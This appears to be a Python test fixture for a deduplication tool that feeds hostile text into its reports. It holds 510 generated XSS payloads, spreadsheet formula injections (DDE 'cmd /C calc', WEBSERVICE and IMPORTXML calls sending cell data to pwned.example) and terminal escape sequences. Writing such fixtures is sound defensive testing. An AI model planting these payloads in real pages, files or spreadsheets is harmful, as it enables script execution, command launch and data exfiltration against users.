"""What hostile text tries: markup and scripts for browsers, formulas for spreadsheets, sequences for terminals."""

from __future__ import annotations

import itertools
from collections.abc import Iterator, Sequence
from dataclasses import replace

from made_edits import edit_of

from dedupe.model import Edit, Finding, Place, Skipped

MARKER = "pwned"
"""Stands in every payload for browsers; a script that runs would set it on the window."""

_SCRIPTS = (
    "window.pwned=1",
    "window['pwned']=1",
    "top.pwned=1",
    "window.pwned=1//",
    "eval('window.pwned=1')",
)
_ELEMENTS = (
    "<script>{0}</script>",
    "<SCRIPT >{0}</SCRIPT >",
    "<img src=x onerror={0}>",
    '<img src="x" onerror="{0}">',
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>{0}</script>'>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<iframe src=javascript:{0}>",
    "<a href=javascript:{0}>pwned</a>",
    "<a href='https://pwned.example/'>{0}</a>",
    "<body onload={0}>",
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<object data='data:text/html,<script>{0}</script>'>",
    "<embed src=javascript:{0}>",
    "<form action=javascript:{0}><button>pwned",
    "<base href='https://pwned.example/'>{0}",
    "<meta http-equiv=refresh content='0;url=https://pwned.example/?{0}'>",
    "<link rel=stylesheet href='https://pwned.example/{0}.css'>",
    "<style>@import 'https://pwned.example/{0}'</style>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<plaintext>{0}",
    "<xmp>{0}</xmp><listing>",
    "<textarea>{0}",
    "<select><option>{0}</select>",
    "<table><tr><td>{0}</table></div></section></main>",
)
_EXITS = (
    "{0}",
    '">{0}',
    "'>{0}",
    "--><!-- {0}",
    "]]>{0}",
    "</del></p></div></details>{0}",
    "</title>{0}",
    "</style>{0}",
    "</script>{0}",
    "</textarea></select></option>{0}",
    "&#60;{0}&#62;",
    "{{{{7*7}}}}{{% raw %}}{0}{{% endraw %}}",
    "<!--{0}",
    "<![CDATA[{0}",
    "<?php {0} ?>",
    '" onmouseover="window.pwned=1" x="{0}',
    "' style='background:url(https://pwned.example/)' {0}",
)

FOR_BROWSERS = tuple(
    exit_.format(element.format(script))
    for number, (exit_, element) in enumerate(itertools.product(_EXITS, _ELEMENTS))
    for script in [_SCRIPTS[number % len(_SCRIPTS)]]
)
"""510 payloads: each element behind each way out of where it stands."""

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://pwned.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://pwned.example/?v=", A1), "//a")',
    '=WEBSERVICE("http://pwned.example/")',
    '=DDE("cmd";"/C calc";"x")',
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-SUM(A1:A9)",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "   +1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "  -1+1",
    "  @SUM(1)",
    '="a"&"b"',
    "=A1&CHAR(10)",
    "='file:///etc/passwd'#$passwd.A1",
    "=IF(1,2,3)",
    "=+1",
    "==1",
    "+-1",
    "-+1",
    "--1",
    "=-1",
    "@@",
    "=R1C1",
    "=1,=2",
)
"""40 cells that a spreadsheet would compute."""

FOR_TERMINALS = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]52;c;aGFja2Vk\x07",
    "\x1b]8;;http://pwned.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1bP$q\x1b\\",
    "\x9b2J",
    "\x08\x08gone",
    "a\x00b\x7f",
    "a\u202eb\u202c\u2066c\u2069",
    "\ufefftag\U000e0041\U000e007f",
    "\u2028line\u2029\x85",
    "::error::boo",
    "##[error]boo",
    "##vso[task.complete result=Succeeded;]done",
    "\udcff\udce9",
    "[red]x[/red] [/x] :smile:",
)


def edits_of(payloads: Sequence[str]) -> Iterator[Edit | Skipped]:
    """Yield documents in which the payloads stand everywhere that something from outside can stand."""
    for number, payload in enumerate(payloads):
        name = f"{payload.replace('/', '|')}/{number} {payload}.txt"
        line = payload.encode("utf-8", "surrogateescape").replace(b"\n", b" ") + b" %d\n" % number
        raw = line + b"kept " + line + line + b"kept too " + line
        start = 2 * len(line) + 5
        place = Place(name, 0, len(line), 1, 1)
        finding = Finding(
            "DOC402", place, 0.9, (("differs", payload),), (Place(f"of {payload}", 0, 1, 1, 1),)
        )
        edit = edit_of(name, raw, [(start, start + len(line))], findings=(finding,), rule="DUP102")
        (cut,) = edit.cuts
        cut = replace(
            cut,
            id=payload,
            rule="DUP102" if number % 2 else payload,
            evidence=(("differs", payload), (payload, 1)),
            survivors=(place, Place(f"gone {payload}", 0, 1, 1, 1)),
        )
        yield replace(
            edit,
            cuts=(cut,),
            guessed=bool(number % 3),
            spared=payload,
            segmentation=("line", "blank-line")[number % 2],
        )
        yield Skipped(f"skipped {payload}", "unreadable", payload)
